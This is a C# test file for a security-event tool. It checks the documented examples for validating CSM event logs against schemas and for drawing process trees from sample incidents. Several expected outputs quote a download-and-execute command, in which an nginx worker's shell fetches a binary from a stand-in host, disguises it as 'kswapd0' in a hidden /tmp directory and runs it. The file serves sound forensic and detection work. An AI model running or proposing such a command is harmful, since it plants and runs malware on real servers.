using System.IO;
using System.Linq;
using CsmEvents.Commands;
using CsmEvents.Model;
using CsmEvents.ProcessTree;
using CsmEvents.Schema;
using CsmEvents.Tests.Support;

namespace CsmEvents.Tests.Commands;

/// <summary>
/// The examples of docs/cmdlets/Test-CsmEvent.md, Get-CsmProcessTree.md and Get-CsmSchema.md, run on samples/
/// through the runners with the parameters mapped as the cmdlets map them: what the pages show is what runs.
/// </summary>
public class HelpExampleTests
{
    private static string Sample(params string[] parts) => Path.Combine(RepoPaths.Samples, Path.Combine(parts));

    private static RecordingSink Test(TestEventsOptions options, params string[] paths)
    {
        var sink = new RecordingSink();
        new TestEventsRunner(options, sink).ReadPaths(paths);
        return sink;
    }

    [Fact]
    public void TestExample1_WindowsIncidentIsValid()
    {
        var sink = Test(new TestEventsOptions(), Sample("windows", "incident-ws01.jsonl"));
        Assert.Equal(24, sink.Emitted.Count);
        Assert.All(sink.Emitted, verdict => Assert.Equal(true, verdict));
        Assert.Empty(sink.Errors);
        Assert.Empty(sink.Warnings);
    }

    [Fact]
    public void TestExample2_ScheduledJobKeepsOnlyInvalidResults()
    {
        // Get-ChildItem samples -Recurse -Filter *.jsonl | Test-CsmEvent -Detailed | Where-Object { -not $_.IsValid }
        var files = Directory.GetFiles(RepoPaths.Samples, "*.jsonl", SearchOption.AllDirectories).OrderBy(f => f, System.StringComparer.Ordinal).ToArray();
        var sink = Test(new TestEventsOptions { Detailed = true }, files);
        var invalid = sink.EmittedOf<CsmValidationResult>().Where(r => !r.IsValid).ToList();
        Assert.Equal(66, sink.Emitted.Count);
        // Current Linux events (34) fit no embedded schema: not validated, with one warning for the run.
        Assert.Equal(34, invalid.Count);
        Assert.All(invalid, r => Assert.Null(r.Schema));
        Assert.All(invalid, r => Assert.Equal(TestEventsRunner.NotCachedReason, r.Errors.Single().Message));
        Assert.Single(sink.Warnings);
        Assert.Empty(sink.Errors);
    }

    [Fact]
    public void TestExample3_OldFormatsPickTheirSchemaAutomatically()
    {
        var sink = Test(new TestEventsOptions { Detailed = true }, Sample("linux-legacy", "events.jsonl"), Sample("base", "events.jsonl"));
        var results = sink.EmittedOf<CsmValidationResult>();
        Assert.Equal(new[] { "linux", "linux", "linux", "linux", "linux", "base", "base", "base" }, results.Select(r => r.Schema));
        Assert.All(results, r => Assert.True(r.IsValid, r + ": " + string.Join("; ", r.Errors.Select(e => e.InstancePath + " " + e.Message))));
    }

    [SharedFact]
    public void TestExample4_CurrentLinuxEventsWithDatadogsSchemaFile()
    {
        string schema = RepoPaths.InShared("datadog-agent-schemas", "backend_linux.schema.json");
        var sink = Test(new TestEventsOptions { SchemaPath = schema }, Sample("linux", "incident-web01.jsonl"));
        Assert.Equal(31, sink.Emitted.Count);
        Assert.All(sink.Emitted, verdict => Assert.Equal(true, verdict));

        var strict = Test(new TestEventsOptions { SchemaPath = schema, Detailed = true }, Sample("linux", "newer-agent.jsonl"));
        Assert.Equal(new[] { false, false, false }, strict.EmittedOf<CsmValidationResult>().Select(r => r.IsValid));
        Assert.All(strict.EmittedOf<CsmValidationResult>(), r => Assert.All(r.Errors, e => Assert.Equal("additionalProperties", e.Keyword)));
        var lenient = Test(new TestEventsOptions { SchemaPath = schema, IgnoreAdditionalProperties = true }, Sample("linux", "newer-agent.jsonl"));
        Assert.Equal(new object[] { true, true, true }, lenient.Emitted);
    }

    [Fact]
    public void TestExample5_AWrongSchemaNameAndAMissingFileStopBeforeReading()
    {
        var unknown = Assert.Throws<System.ArgumentException>(() => new TestEventsRunner(new TestEventsOptions { SchemaName = "macos" }, new RecordingSink()));
        Assert.Equal("unknown schema 'macos': use auto, windows, linux, base, a cached schema such as backend_linux@7.64.3, or a schema file", unknown.Message);
        var missing = Assert.Throws<SchemaLoadException>(() => new TestEventsRunner(new TestEventsOptions { SchemaPath = "/nonexistent/backend_linux.schema.json" }, new RecordingSink()));
        Assert.Equal("/nonexistent/backend_linux.schema.json: (root): schema file not found", missing.Message);
    }

    private static RecordingSink Tree(TreeCommandOptions options, params string[] paths)
    {
        var sink = new RecordingSink();
        var runner = new TreeCommandRunner(options, sink);
        runner.Reader.ReadPaths(paths);
        runner.Complete();
        return sink;
    }

    [Fact]
    public void TreeExample1_TheLineageOfCurl()
    {
        string path = Sample("linux", "incident-web01.jsonl");
        var sink = Tree(new TreeCommandOptions { Output = TreeOutput.Text, Tree = new ProcessTreeOptions { Names = { "curl" }, Ancestry = true } }, path);
        Assert.Equal(new[]
        {
            "host: " + path,
            "systemd (1): /sbin/init",
            "└─ systemd (1187) [thread]: /usr/lib/systemd/systemd",
            "   └─ nginx (1187) [exec]: /usr/sbin/nginx -g 'daemon off; master_process on;'",
            "      └─ nginx (1189) [thread] 1 event: /usr/sbin/nginx -g 'daemon off; master_process on;'",
            "         └─ nginx (24311) [thread]: /usr/sbin/nginx",
            "            └─ sh (24311) [exec] 1 event: sh -c 'mkdir -p /tmp/.x && curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0 && chmod +x /tmp/.x/kswapd0 && /tmp/.x/kswapd0'",
            "               └─ sh (24313) [thread]: /usr/bin/dash",
            "                  └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
        }, sink.Emitted.Cast<string>());
        Assert.Empty(sink.Errors);
    }

    [Fact]
    public void TreeExample2_NodesOfTheSameSelection()
    {
        var sink = Tree(new TreeCommandOptions { Tree = new ProcessTreeOptions { Names = { "curl" }, Ancestry = true } }, Sample("linux", "incident-web01.jsonl.gz"));
        var nodes = sink.EmittedOf<ProcessNode>();
        Assert.Equal(new long?[] { 1, 1187, 1187, 1189, 24311, 24311, 24313, 24313 }, nodes.Select(n => n.Pid));
        Assert.True(nodes[^1].IsSelected);
        Assert.Equal(5, nodes[^1].EventCount);
    }

    [Fact]
    public void TreeExample3_MermaidIsOneDocument()
    {
        var sink = Tree(new TreeCommandOptions { Output = TreeOutput.Mermaid, Tree = new ProcessTreeOptions { Names = { "curl" }, Ancestry = true } }, Sample("linux", "incident-web01.jsonl"));
        string mermaid = Assert.IsType<string>(Assert.Single(sink.Emitted));
        Assert.StartsWith("flowchart TD\n", mermaid.Replace("\r\n", "\n"));
        Assert.Contains("n8[\"curl (24313) [exec, selected]<br/>curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0<br/>5 events\"]:::selected", mermaid);
    }

    [Fact]
    public void TreeExample4_WindowsIncidentFromPipelineEventsByPid()
    {
        // Get-CsmEvent samples/windows/incident-ws01.jsonl | Get-CsmProcessTree -ProcessId 8164 -AsText
        var read = new RecordingSink();
        new GetEventsRunner(new GetEventsOptions(), read).ReadPaths(new[] { Sample("windows", "incident-ws01.jsonl") });
        var sink = new RecordingSink();
        var runner = new TreeCommandRunner(new TreeCommandOptions { Output = TreeOutput.Text, Tree = new ProcessTreeOptions { Pids = { 8164 } } }, sink);
        foreach (var evt in read.EmittedOf<CsmEvent>()) runner.Add(evt);
        runner.Complete();
        var lines = sink.Emitted.Cast<string>().ToList();
        Assert.Equal("host: ws-01", lines[0].Replace(Sample("windows", "incident-ws01.jsonl"), "ws-01"));
        Assert.StartsWith("powershell.exe (8164)", lines[1]);
        Assert.Contains(lines, l => l.Contains("update.exe", System.StringComparison.Ordinal));
        Assert.Contains(lines, l => l.Contains("reg.exe", System.StringComparison.Ordinal));
    }
}
